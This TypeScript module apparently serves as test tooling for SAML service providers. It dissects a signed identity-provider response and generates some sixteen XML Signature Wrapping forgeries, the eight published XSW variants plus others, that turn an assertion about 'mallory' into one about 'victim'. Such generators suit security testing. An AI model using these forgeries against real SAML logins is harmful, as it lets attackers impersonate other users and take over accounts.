/** The attacker's own name at the identity provider, and the name that the attacker wants to log in with. */
export const mallory = "mallory";
export const victim = "victim";

interface Parts {
  readonly head: string;
  /** Including its signature. */
  readonly assertion: string;
  readonly signature: string;
  /** The assertion without its signature. */
  readonly bare: string;
  readonly tail: string;
}

/** Cut a response of the test identity provider, with one signed assertion, into its parts. */
export function dissect(xml: string): Parts {
  const [, head = "", assertion = "", tail = ""] =
    /^(.*?)(<saml:Assertion .*<\/saml:Assertion>)(.*)$/s.exec(xml) ?? [];
  const signature = signatureIn(assertion);
  return { head, assertion, signature, bare: assertion.replace(signature, ""), tail };
}

/** The first signature in a text. */
const signatureIn = (xml: string): string => /<ds:Signature .*?<\/ds:Signature>/s.exec(xml)?.[0] ?? "";

/** Insert XML before the end tag of an element. */
export const insertInto = (xml: string, element: string, inserted: string): string =>
  xml.replace(`</${element}>`, () => `${inserted}</${element}>`);

/** Turn an element into one about the victim, with an id of its own. */
export const forged = (xml: string): string =>
  xml.replaceAll(`>${mallory}<`, `>${victim}<`).replace(/ ID="[^"]*"/, ' ID="_forged"');

interface Wrapping {
  readonly wrapping: string;
  /** The signature that it borrows. */
  readonly signed: "assertion" | "response";
  readonly wrap: (xml: string) => string;
}

const ofAssertion = (wrapping: string, place: (parts: Parts) => string): Wrapping => ({
  wrapping,
  signed: "assertion",
  wrap: (xml) => {
    const parts = dissect(xml);
    return parts.head + place(parts) + parts.tail;
  },
});

const ofResponse = (wrapping: string, place: (signature: string, original: string) => string): Wrapping => ({
  wrapping,
  signed: "response",
  wrap: (xml) => {
    const signature = signatureIn(xml);
    return forged(xml).replace(signature, () => place(signature, xml.replace(signature, "")));
  },
});

const extensions = (xml: string) => `<samlp:Extensions>${xml}</samlp:Extensions>`;

/**
 * Ways to wrap a genuine signature around a forgery: the eight numbered ones (Somorovsky and others, "On Breaking SAML:
 * Be Whoever You Want to Be", 2012), and variations. Each turns a response about Mallory into one about the victim for
 * a reader who looks in the wrong place.
 */
export const wrappings: readonly Wrapping[] = [
  ofResponse(
    "a forged response around the signed one, which is inside of its signature (XSW 1)",
    (signature, original) => insertInto(signature, "ds:Signature", original),
  ),
  ofResponse(
    "a forged response around the signed one, which is before its signature (XSW 2)",
    (signature, original) => original + signature,
  ),
  ofAssertion(
    "a forged assertion before the signed one (XSW 3)",
    ({ bare, assertion }) => forged(bare) + assertion,
  ),
  ofAssertion("a forged assertion after the signed one", ({ bare, assertion }) => assertion + forged(bare)),
  ofAssertion("a forged assertion around the signed one (XSW 4)", ({ bare, assertion }) =>
    insertInto(forged(bare), "saml:Assertion", assertion),
  ),
  ofAssertion(
    "a forged assertion with the signature of another, which follows (XSW 5)",
    ({ assertion, bare }) => forged(assertion) + bare,
  ),
  ofAssertion(
    "a forged assertion whose signature contains the one that was signed (XSW 6)",
    ({ assertion, bare }) => insertInto(forged(assertion), "ds:Signature", bare),
  ),
  ofAssertion(
    "a forged assertion with the id of the signed one among the extensions (XSW 7)",
    ({ assertion, bare }) => extensions(bare.replace(mallory, victim)) + assertion,
  ),
  ofAssertion(
    "a forged assertion whose signature has the signed one as an object (XSW 8)",
    ({ assertion, bare }) => insertInto(forged(assertion), "ds:Signature", `<ds:Object>${bare}</ds:Object>`),
  ),
  ofAssertion(
    "a signed assertion among the extensions, and a forged one in its place",
    ({ assertion, bare }) => extensions(assertion) + forged(bare),
  ),
  ofAssertion(
    "two assertions with one id, of which the second is signed",
    ({ assertion, bare }) => bare.replace(mallory, victim) + assertion,
  ),
  ofAssertion(
    "two assertions with one id, of which the first is signed",
    ({ assertion, bare }) => assertion + bare.replace(mallory, victim),
  ),
  ...["Id", "id", "xml:id", "AssertionID"].map((attribute) =>
    ofAssertion(
      `a forged assertion that keeps the signature, beside the signed content with its id as ${attribute}`,
      ({ assertion, bare }) => assertion.replace(mallory, victim) + bare.replace(/ ID=/, ` ${attribute}=`),
    ),
  ),
];
